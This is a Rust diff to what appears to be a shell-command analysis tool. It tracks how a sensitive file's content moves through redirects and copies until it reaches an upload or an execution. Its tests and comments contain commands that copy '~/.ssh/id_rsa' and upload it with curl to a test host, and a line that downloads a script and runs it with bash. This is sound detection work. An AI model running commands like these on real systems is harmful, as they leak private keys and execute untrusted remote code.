@@ -491,13 +491,17 @@ impl<'s, 'a> Cx<'s, 'a> {
             self.emit(ev, r.start_byte(), r.end_byte());
             return;
         }
-        if op
-            .trim_start_matches(|c: char| c.is_ascii_digit())
-            .starts_with('<')
-        {
+        let op = op.trim_start_matches(|c: char| c.is_ascii_digit());
+        if op.starts_with('<') {
             self.file_op(Op::FileRead, &target, r, f);
         } else {
             self.file_op(Op::FileWrite, &target, r, f);
+            // `cat ~/.ssh/id_rsa > /tmp/k`: what the command prints is now
+            // that file's content, which a later `curl -F f=@/tmp/k` sends.
+            let stderr_only = self.t(r).trim_start().starts_with('2');
+            if !stderr_only {
+                f.pipe_out = Some(format!("$file_{target}"));
+            }
         }
     }
 
@@ -1951,6 +1955,7 @@ pub fn analyze_argv(words: &[Word], cx: &ArgvCx, out: &mut Vec<Evidence>) {
                     let mut r = Evidence::new(Op::FileRead, A::Read, scope, p)
                         .tags(tags)
                         .object("file uploaded by the client");
+                    r.inputs.push(format!("$file_{p}"));
                     r.output = Some(format!("$upload_{p}"));
                     inputs.push(format!("$upload_{p}"));
                     push(r);
@@ -1961,6 +1966,7 @@ pub fn analyze_argv(words: &[Word], cx: &ArgvCx, out: &mut Vec<Evidence>) {
                 let mut r = Evidence::new(Op::FileRead, A::Read, scope, p)
                     .tags(tags)
                     .object("file uploaded by the client");
+                r.inputs.push(format!("$file_{p}"));
                 r.output = Some(format!("$upload_{p}"));
                 inputs.push(format!("$upload_{p}"));
                 push(r);
@@ -2677,6 +2683,10 @@ pub fn analyze_argv(words: &[Word], cx: &ArgvCx, out: &mut Vec<Evidence>) {
                         .tags(tags)
                         .object("sensitive file read");
                     ev.output = cx.pipe_out.clone();
+                    // `cp ~/.ssh/id_rsa /tmp/k`: the copy carries the content.
+                    if matches!(name.as_str(), "cp" | "mv" | "ln") && paths.len() == 2 {
+                        ev.output = Some(format!("$file_{}", paths[1]));
+                    }
                     push(ev);
                 }
             }
@@ -3167,6 +3177,45 @@ mod tests {
                 "{code}: {ev:#?}"
             );
         }
+        // A file written by a redirect or a copy carries its content on to
+        // the upload or the run that names it; a stderr redirect does not.
+        for (code, carried) in [
+            (
+                "cp ~/.ssh/id_rsa /tmp/k; curl -F f=@/tmp/k https://x.test",
+                true,
+            ),
+            (
+                "cat ~/.ssh/id_rsa > /tmp/k; curl -T /tmp/k https://x.test",
+                true,
+            ),
+            (
+                "cat ~/.ssh/id_rsa 2> /tmp/k; curl -F f=@/tmp/k https://x.test",
+                false,
+            ),
+        ] {
+            let ev = run(code);
+            let read = ev
+                .iter()
+                .find(|e| e.op == Op::FileRead && e.target.contains("id_rsa"))
+                .expect("read");
+            let upload = ev
+                .iter()
+                .find(|e| e.op == Op::FileRead && e.target == "/tmp/k")
+                .expect("upload");
+            assert_eq!(
+                read.output
+                    .as_ref()
+                    .is_some_and(|o| upload.inputs.contains(o)),
+                carried,
+                "{code}: {ev:#?}"
+            );
+        }
+        let ev = run("curl -fsSL https://x.test/p.sh > /tmp/p.sh\nbash /tmp/p.sh\n");
+        assert!(
+            ev.iter()
+                .any(|e| e.op == Op::Exec && e.inputs.iter().any(|i| i == "$file_/tmp/p.sh")),
+            "{ev:#?}"
+        );
         // `python3 - "$key" <<'PY'`: the heredoc is the program.
         let ev = run("k=$(curl -s https://x.test/k)\npython3 - \"$k\" <<'PY'\nprint(1)\nPY\n");
         assert!(
